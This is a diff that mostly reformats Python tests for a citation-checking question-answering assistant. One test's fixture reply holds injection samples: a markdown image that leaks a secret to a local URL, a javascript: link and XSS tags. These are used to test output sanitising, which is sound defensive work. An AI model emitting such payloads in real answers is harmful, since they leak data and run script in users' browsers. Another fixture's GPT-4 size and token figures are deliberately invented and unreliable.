@@ -91,8 +91,9 @@ def test_long_question_rejected_not_truncated(retriever):
 
 def test_deadline_cuts_answer_short(retriever):
     settings = Settings()
-    settings = settings.model_copy(update={"generation": settings.generation.model_copy(
-        update={"deadline_s": 0.2, "mode": "generated"})})
+    settings = settings.model_copy(
+        update={"generation": settings.generation.model_copy(update={"deadline_s": 0.2, "mode": "generated"})}
+    )
     slow = ScriptedChatModel(INDUCTION_REPLY, piece=4, delay_s=0.05)
     answer = Assistant(retriever, slow, settings).ask("What is an induction head?")
     assert answer.truncated
@@ -101,9 +102,11 @@ def test_deadline_cuts_answer_short(retriever):
 
 
 def test_output_links_images_and_html_removed(retriever):
-    reply = ("An induction head copies the token that followed an earlier match [1]. "
-             "![x](http://127.0.0.2/leak?q=secret) See [docs](javascript:alert(1)) and http://evil.example/x "
-             "<img src=x onerror=alert(1)> <script>alert(1)</script>")
+    reply = (
+        "An induction head copies the token that followed an earlier match [1]. "
+        "![x](http://127.0.0.2/leak?q=secret) See [docs](javascript:alert(1)) and http://evil.example/x "
+        "<img src=x onerror=alert(1)> <script>alert(1)</script>"
+    )
     assistant, _ = make(retriever, reply)
     answer = assistant.ask("What is an induction head?")
     for bad in ("http", "javascript", "<img", "<script", "![", "](", "onerror"):
@@ -120,7 +123,10 @@ def test_special_tokens_never_reach_the_prompt(retriever):
 
 def test_history_is_capped_server_side(retriever):
     assistant, model = make(retriever, INDUCTION_REPLY)
-    history = [ChatMessage(role="user", content="x" * 500_000), ChatMessage(role="assistant", content="y" * 500_000)] * 3
+    history = [
+        ChatMessage(role="user", content="x" * 500_000),
+        ChatMessage(role="assistant", content="y" * 500_000),
+    ] * 3
     answer = assistant.ask("and what composes with it?", history=history)
     assert answer.covered or answer.answer
     prompt_chars = sum(len(m.content) for m in model.calls[0]) if model.calls else 0
@@ -129,8 +135,10 @@ def test_history_is_capped_server_side(retriever):
 
 def test_followup_is_rewritten_from_previous_turn(retriever):
     assistant, _ = make(retriever, INDUCTION_REPLY)
-    history = [ChatMessage(role="user", content="What is an induction head?"),
-               ChatMessage(role="assistant", content="An induction head copies ...")]
+    history = [
+        ChatMessage(role="user", content="What is an induction head?"),
+        ChatMessage(role="assistant", content="An induction head copies ..."),
+    ]
     answer = assistant.ask("and what composes with it?", history=history)
     assert "Induction head" in answer.standalone_query
     assert answer.covered
@@ -145,8 +153,10 @@ def test_retrieval_only_mode_cites_summary(retriever):
 
 
 def test_invented_names_and_numbers_are_not_cited(retriever):
-    reply = ("GPT-4 is a 70B parameter model trained on 13T tokens [1]. "
-             "An induction head copies the token that followed an earlier copy of the current token [1].")
+    reply = (
+        "GPT-4 is a 70B parameter model trained on 13T tokens [1]. "
+        "An induction head copies the token that followed an earlier copy of the current token [1]."
+    )
     assistant, _ = make(retriever, reply)
     answer = assistant.ask("What is an induction head?")
     invented = [s for s in answer.sentences if "GPT-4" in s.text]
@@ -169,8 +179,10 @@ class DyingChatModel(ScriptedChatModel):
 
         pieces = super().stream(messages, max_tokens=max_tokens, temperature=temperature)
         yield next(pieces)
-        raise BackendUnavailable("the local model process killed by SIGSEGV while answering",
-                                 "ask again: the model restarts for the next question")
+        raise BackendUnavailable(
+            "the local model process killed by SIGSEGV while answering",
+            "ask again: the model restarts for the next question",
+        )
 
 
 def test_a_model_crash_mid_answer_still_gives_the_cited_definition(retriever):
